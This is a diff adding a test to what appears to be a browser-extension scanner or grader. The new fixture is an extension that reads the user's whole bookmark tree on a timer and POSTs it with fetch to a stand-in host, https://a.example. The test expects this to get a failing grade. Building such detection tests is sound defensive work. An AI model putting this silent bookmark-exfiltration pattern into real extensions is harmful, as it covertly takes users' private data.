@@ -116,3 +116,13 @@ test.each([
 ])('takes what %s gives for no answer', async (_, made, asked) => {
   expect(await proxied(made, asked)).toMatch(/^A/);
 });
+
+test('is sure of a client through whose own code the data are seen to leave', async () => {
+  const taken = (emit: string): Promise<string> =>
+    graded({
+      manifest: { permissions: ['bookmarks', 'alarms'] },
+      background: `const make = (url) => ({ emit(name, data) { ${emit} } }); const line = make('https://a.example'); chrome.alarms.onAlarm.addListener(() => chrome.bookmarks.getTree((all) => line.emit('all', all)));`,
+    });
+  expect(await taken("fetch(self.server, { method: 'POST', body: JSON.stringify(data) });")).toMatch(/[DF]/);
+  expect(await taken('self.shown = data;')).toBe('C');
+});
